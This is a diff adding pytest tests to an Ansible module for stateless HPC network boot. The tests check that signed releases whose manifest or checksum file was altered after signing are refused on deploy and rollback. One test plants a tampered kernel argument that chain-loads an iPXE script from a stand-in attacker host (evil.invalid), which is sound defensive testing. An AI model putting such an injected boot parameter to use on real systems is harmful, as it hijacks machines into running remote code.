@@ -5,12 +5,13 @@ Keys are throw-away ed25519 keys made in temporary GnuPG homes; the user's keyri
 
 from __future__ import annotations
 
+import hashlib
 import os
 import subprocess
 from pathlib import Path
 
 import pytest
-from bootlink_fixtures import make_pack, tree_snapshot
+from bootlink_fixtures import make_pack, rewrite_manifest, tree_snapshot
 from signing_keys import SigningKey, gpgv
 
 from ansible_collections.hpc.stateless.plugins.module_utils.artifact.names import SBOM_FILE, SIGNATURE_FILE, SUMS_FILE
@@ -282,3 +283,80 @@ def test_version_published_by_an_older_deploy_then_signed_gets_the_signed_list(t
     assert gpgv(keys["site"].binary, published).returncode == 0
     before = tree_snapshot(root)
     assert not deploy(root, v1, keyring=str(keys["site"].armored))["changed"] and tree_snapshot(root) == before
+
+
+# --------------------------------------------------------------------------- only checked bytes, also on a re-deploy
+
+
+def test_signed_release_whose_pack_manifest_was_edited_after_publishing_is_refused(tmp_path, keys):
+    """The version is published; its pack output's manifest.json is then edited (SHA256SUMS and its signature left
+    alone). A deploy with the keyring must not pass it on as 'signature checked'."""
+    out, root = tmp_path / "out", tmp_path / "tftp"
+    v1 = make_pack(out, version="v1", squashfs=True)
+    sign(str(v1), keys["site"].fingerprint, str(keys["site"].home))
+    keyring = str(keys["site"].armored)
+    deploy(root, v1, keyring=keyring, format="squashfs")
+    rewrite_manifest(v1, lambda manifest: manifest["initrd"].update(
+        kernel_args="root=live:<URL of the squashfs> && chain http://evil.invalid/x.ipxe ||"))
+    assert gpgv(keys["site"].binary, v1).returncode == 0  # the signature itself still verifies
+    before = tree_snapshot(root)
+    for check_mode in (True, False):
+        with pytest.raises(BootlinkError, match=rf"{v1}/manifest.json does not match its checksum in SHA256SUMS .*"
+                                                r"changed after the image was packed and signed"):
+            deploy(root, v1, keyring=keyring, format="squashfs", check_mode=check_mode)
+    assert tree_snapshot(root) == before
+
+
+def two_signed_versions(tmp_path: Path, keys, sign_v1: bool = True) -> tuple[Path, str]:
+    """v1 and v2 published with the site keyring (v1 unsigned unless ``sign_v1``), v2 served, v1 previous."""
+    out, root = tmp_path / "out", tmp_path / "tftp"
+    keyring = str(keys["site"].armored)
+    for version in ("v1", "v2"):
+        directory = make_pack(out, version=version)
+        if version == "v2" or sign_v1:
+            sign(str(directory), keys["site"].fingerprint, str(keys["site"].home))
+        deploy(root, directory, keyring=keyring if version == "v2" or sign_v1 else None)
+    assert os.readlink(root / "compute") == "images/compute/v2"
+    return root, keyring
+
+
+@pytest.mark.parametrize("check_mode", [False, True])
+def test_rollback_to_a_version_whose_sha256sums_was_altered_after_publishing_is_refused(tmp_path, keys, check_mode):
+    """Issue 30: the published v1 gets another kernel and a SHA256SUMS to match; its signature no longer verifies."""
+    root, keyring = two_signed_versions(tmp_path, keys)
+    v1 = root / "images/compute/v1"
+    (v1 / "vmlinuz").write_bytes(b"another kernel")
+    sums = read_sums(str(v1 / SUMS_FILE))
+    sums["vmlinuz"] = hashlib.sha256(b"another kernel").hexdigest()
+    (v1 / SUMS_FILE).write_text(sums_text(sums))
+    before = tree_snapshot(root)
+    with pytest.raises(SignatureError, match=rf"signature check of {v1}/SHA256SUMS failed: BAD signature"):
+        apply_state({"boot_root": str(root), "image": "compute", "state": "rollback", "lock_timeout": 0,
+                     "keyring": keyring}, check_mode=check_mode)
+    assert tree_snapshot(root) == before
+    with pytest.raises(SignatureError, match="BAD signature"):
+        apply_state({"boot_root": str(root), "image": "compute", "state": "switched", "version": "v1",
+                     "lock_timeout": 0, "keyring": keyring}, check_mode=check_mode)
+    assert tree_snapshot(root) == before
+
+
+def test_rollback_with_a_keyring_to_a_version_published_unsigned_is_refused(tmp_path, keys):
+    root, keyring = two_signed_versions(tmp_path, keys, sign_v1=False)
+    before = tree_snapshot(root)
+    with pytest.raises(SignatureError, match=rf"{root}/images/compute/v1/SHA256SUMS.asc is missing: the release is not "
+                                             "signed"):
+        apply_state({"boot_root": str(root), "image": "compute", "state": "rollback", "lock_timeout": 0,
+                     "keyring": keyring})
+    assert tree_snapshot(root) == before
+
+
+def test_rollback_with_a_keyring_checks_and_reports_the_signature_of_the_target(tmp_path, keys):
+    root, keyring = two_signed_versions(tmp_path, keys)
+    result = apply_state({"boot_root": str(root), "image": "compute", "state": "rollback", "lock_timeout": 0,
+                          "keyring": keyring, "signers": [keys["site"].fingerprint]})
+    assert result["current"] == "v1" and result["switched"]
+    assert result["signature"]["checked"] and result["signature"]["fingerprint"] == keys["site"].fingerprint
+    with pytest.raises(SignatureError, match="not a required signer"):
+        apply_state({"boot_root": str(root), "image": "compute", "state": "rollback", "lock_timeout": 0,
+                     "keyring": str(keys["site"].armored), "signers": [keys["other"].fingerprint]})
+    assert os.readlink(root / "compute") == "images/compute/v1"
